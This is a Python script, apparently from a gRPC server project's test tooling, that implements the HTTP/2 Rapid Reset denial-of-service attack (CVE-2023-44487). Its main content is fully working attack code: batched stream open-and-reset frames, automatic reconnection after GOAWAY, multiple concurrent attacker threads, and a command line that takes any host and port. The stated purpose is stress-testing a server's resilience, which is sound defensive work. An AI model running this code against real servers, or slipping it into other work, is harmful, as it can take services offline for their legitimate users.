"""Hostile HTTP/2 clients for benchmarks and tests: load that a server must survive while it keeps
serving everyone else. Importable (`from rapid_reset import rapid_reset`) and runnable:

    python3 scripts/rapid_reset.py rapid-reset --port 50051 --seconds 10 --attackers 4

`rapid_reset` is the HTTP/2 Rapid Reset attack (CVE-2023-44487): open a stream, reset it at once,
open the next, on one connection as fast as the socket takes it; when the server ends the
connection (GOAWAY, close), reconnect and start over, until told to stop.
"""
import argparse
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))

import hpack  # noqa: E402

from h2raw import (CLIENT_PREFACE, DATA, FLAG_ACK, FLAG_END_HEADERS, FLAG_END_STREAM, GOAWAY,  # noqa: E402
                   HEADERS, RST_STREAM, SETTINGS, frame, grpc_headers, parse_frames)

# RST_STREAM's error code: CANCEL, what a gRPC client sends when it cancels a call.
CANCEL = 8
# A grpc.health.v1.HealthCheckRequest with service "" (an empty message), framed.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
WATCH = "/grpc.health.v1.Health/Watch"


class AttackStats:
    """What one attacker did: connections made, streams opened (and reset), GOAWAYs received by
    error code, connections the server closed without a GOAWAY, connections refused."""

    def __init__(self):
        self.connections = 0
        self.streams = 0
        self.goaways = Counter()
        self.closed_without_goaway = 0
        self.connect_failures = 0
        self.lock = threading.Lock()

    def as_dict(self):
        return {"connections": self.connections, "streams": self.streams, "goaways": dict(self.goaways),
                "closed_without_goaway": self.closed_without_goaway, "connect_failures": self.connect_failures}


def _stream_blocks(path):
    """The HPACK blocks of one connection: the first request's (which adds its fields to the
    server's dynamic table) and every later one's (all indexed: a few bytes each)."""
    encoder = hpack.Encoder()
    headers = grpc_headers(path)
    return encoder.encode(headers), encoder.encode(headers)


def _stream_frames(stream_id, header_block, with_message):
    """One stream's frames: HEADERS (+ DATA with END_STREAM, or END_STREAM on the HEADERS), then
    RST_STREAM(CANCEL)."""
    if with_message:
        frames = (frame(HEADERS, FLAG_END_HEADERS, stream_id, header_block)
                  + frame(DATA, FLAG_END_STREAM, stream_id, EMPTY_MESSAGE))
    else:
        frames = frame(HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, stream_id, header_block)
    return frames + frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))


def _requests(first_id, count, first_block, block, with_message):
    """`count` streams from `first_id` as one bytes object: stream 1 carries `first_block`, every
    other `block`. Built from one stream's bytes with the stream ids patched in (this is the
    attacker's hot loop)."""
    parts = b""
    if first_id == 1:
        parts = _stream_frames(1, first_block, with_message)
        first_id, count = 3, count - 1
    template = _stream_frames(0, block, with_message)
    # The stream id of each frame: 5 bytes into its 9-byte header.
    offsets, at = [], 0
    while at < len(template):
        offsets.append(at + 5)
        at += 9 + int.from_bytes(template[at:at + 3], "big")
    size = len(template)
    out = bytearray(template * count)
    for index in range(count):
        stream_id = first_id + 2 * index
        base = index * size
        for offset in offsets:
            struct.pack_into(">I", out, base + offset, stream_id)
    return parts + bytes(out)


def _drain(sock, buffer, stats):
    """Reads what the server sent without blocking; returns (buffer, closed, goaway): whether the
    server closed, whether it sent GOAWAY. SETTINGS are acknowledged."""
    goaway = False
    while True:
        # A socket with a timeout waits for data even with MSG_DONTWAIT: ask select first.
        if not select.select([sock], [], [], 0)[0]:
            break
        try:
            chunk = sock.recv(65536)
        except (BlockingIOError, InterruptedError, socket.timeout):
            break
        except OSError:
            chunk = b""
        if not chunk:
            return buffer, True, goaway
        frames, buffer = parse_frames(buffer + chunk)
        for ftype, flags, _, payload in frames:
            if ftype == GOAWAY:
                code = struct.unpack(">I", payload[4:8])[0]
                with stats.lock:
                    stats.goaways[code] += 1
                goaway = True
            elif ftype == SETTINGS and not flags & FLAG_ACK:
                try:
                    sock.sendall(frame(SETTINGS, FLAG_ACK, 0))
                except OSError:
                    return buffer, True, goaway
    return buffer, False, goaway


def rapid_reset(port, stop_event, host="127.0.0.1", path=WATCH, with_message=True, streams_per_write=100,
                max_streams_per_connection=1_000_000, stats=None):
    """Runs the Rapid Reset attack against `host:port` until `stop_event` (a threading.Event) is set.

    Each connection sends the preface, then batches of `streams_per_write` streams, each opened
    and at once reset (HEADERS for `path`, with `with_message` a one-message DATA with END_STREAM,
    else END_STREAM on the HEADERS; then RST_STREAM(CANCEL)), one batch per socket write, until
    the server sends GOAWAY or closes, or `max_streams_per_connection` streams were sent; then it
    reconnects. Stream ids climb by 2 from 1, as HTTP/2 requires.

    Args:
        port: the server's port.
        stop_event: a `threading.Event`; the attack ends soon after it is set.
        host: the server's address.
        path: the `:path` of every stream (default Health/Watch, a server-streaming method).
        with_message: send the request message (so a handler would be dispatched) before the reset.
        streams_per_write: streams per socket write.
        max_streams_per_connection: reconnect after this many streams even without a GOAWAY.
        stats: an `AttackStats` to fill (a new one otherwise).

    Returns:
        The `AttackStats`.
    """
    stats = stats or AttackStats()
    first_block, block = _stream_blocks(path)
    while not stop_event.is_set():
        try:
            sock = socket.create_connection((host, port), timeout=2.0)
        except OSError:
            with stats.lock:
                stats.connect_failures += 1
            stop_event.wait(0.01)
            continue
        with stats.lock:
            stats.connections += 1
        buffer = b""
        closed = goaway = False
        try:
            sock.sendall(CLIENT_PREFACE + frame(SETTINGS, 0, 0))
            next_id = 1
            while not stop_event.is_set() and next_id // 2 < max_streams_per_connection:
                count = min(streams_per_write, max_streams_per_connection - next_id // 2)
                sock.sendall(_requests(next_id, count, first_block, block, with_message))
                with stats.lock:
                    stats.streams += count
                next_id += 2 * count
                buffer, closed, seen = _drain(sock, buffer, stats)
                goaway = goaway or seen
                if closed or goaway:
                    break
        except (OSError, socket.timeout):
            closed = True
        finally:
            if not goaway:
                buffer, drained_closed, goaway = _drain(sock, buffer, stats)
                closed = closed or drained_closed
            if closed and not goaway:
                with stats.lock:
                    stats.closed_without_goaway += 1
            sock.close()
    return stats


def run_attackers(port, count, stop_event, **options):
    """Starts `count` `rapid_reset` attackers in daemon threads; returns (threads, stats list)."""
    stats = [AttackStats() for _ in range(count)]
    threads = [threading.Thread(target=rapid_reset, args=(port, stop_event), kwargs={**options, "stats": s}, daemon=True)
               for s in stats]
    for thread in threads:
        thread.start()
    return threads, stats


def main():
    parser = argparse.ArgumentParser(description="Hostile HTTP/2 clients.")
    sub = parser.add_subparsers(dest="attack", required=True)
    reset = sub.add_parser("rapid-reset", help="open and reset streams in a loop, reconnecting (CVE-2023-44487)")
    reset.add_argument("--host", default="127.0.0.1")
    reset.add_argument("--port", type=int, required=True)
    reset.add_argument("--seconds", type=float, default=10)
    reset.add_argument("--attackers", type=int, default=1, help="concurrent attacking threads")
    reset.add_argument("--path", default=WATCH)
    reset.add_argument("--no-message", action="store_true", help="END_STREAM on the HEADERS, no DATA")
    reset.add_argument("--streams-per-write", type=int, default=100)
    args = parser.parse_args()
    stop = threading.Event()
    threads, stats = run_attackers(args.port, args.attackers, stop, host=args.host, path=args.path,
                                   with_message=not args.no_message, streams_per_write=args.streams_per_write)
    time.sleep(args.seconds)
    stop.set()
    for thread in threads:
        thread.join(timeout=10)
    for index, s in enumerate(stats):
        print(f"attacker {index}: {s.as_dict()}")


if __name__ == "__main__":
    main()
